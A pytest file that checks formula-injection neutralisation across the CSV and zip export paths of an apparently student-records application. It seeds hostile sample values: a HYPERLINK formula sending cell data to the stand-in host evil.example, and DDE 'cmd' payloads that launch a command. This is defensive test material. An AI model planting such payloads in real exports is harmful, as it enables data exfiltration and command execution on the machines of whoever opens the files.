"""Every export path neutralises formula cells: export activity, flags CSV, the SAR zip, the Cohort download."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from sqlalchemy import select, update

from lib.access import User
from lib.cli import main as cli
from lib.export import activity_csv
from lib.sar import write_subject_access_export
from lib.store.models import DailyActivity, Flag, Load, StaffUser, Student
from lib.views.cohort import cohort_csv
from lib.views.filters import from_params
from tests.app_fixtures import seed

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EXPLANATION = "-2+3+cmd|' /C calc'!A0"
SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile(session, monkeypatch):
    """The seeded store with a formula for S001's given name, flag explanation and an activity source."""
    seed(session)
    session.execute(update(Student).where(Student.student_id == "S001").values(given_name=NAME))
    session.execute(update(Flag).where(Flag.student_id == "S001").values(explanation=EXPLANATION))
    load_id = session.scalar(select(Load.id))
    session.add(
        DailyActivity(
            student_id="S001", source=SOURCE, day=date(2025, 10, 1), quantity=3.0, load_id=load_id
        )
    )
    session.commit()
    return session


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula(cells: list[str]) -> None:
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [
        c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()
    ]


def test_export_activity(hostile):
    cells = _cells(activity_csv(hostile))
    assert "'" + SOURCE in cells and "3" in cells
    _no_formula(cells)


def test_flags_csv(hostile, capsys):
    assert cli(["flags", "--all", "--as-of", "2026-06-01", "--format", "csv"]) == 0
    cells = _cells(capsys.readouterr().out)
    assert "'" + EXPLANATION in cells
    _no_formula(cells)


def test_subject_access_zip(hostile, tmp_path):
    out = write_subject_access_export(hostile, "S001", tmp_path / "s.zip", requested_by="admin1")
    with zipfile.ZipFile(out) as archive:
        cells = {
            name: _cells(archive.read(name).decode("utf-8"))
            for name in archive.namelist()
            if name.endswith(".csv")
        }
    assert "'" + NAME in cells["profile.csv"]
    assert "'" + EXPLANATION in cells["flags.csv"]
    assert "'" + SOURCE in cells["daily_activity.csv"]
    for file_cells in cells.values():
        _no_formula(file_cells)


def test_cohort_download(hostile):
    staff = hostile.scalar(select(StaffUser).where(StaffUser.username == "tut_a"))
    data = cohort_csv(hostile, User.from_staff(staff), from_params({}))
    cells = _cells(data.decode("utf-8"))
    assert "'" + NAME in cells
    _no_formula(cells)
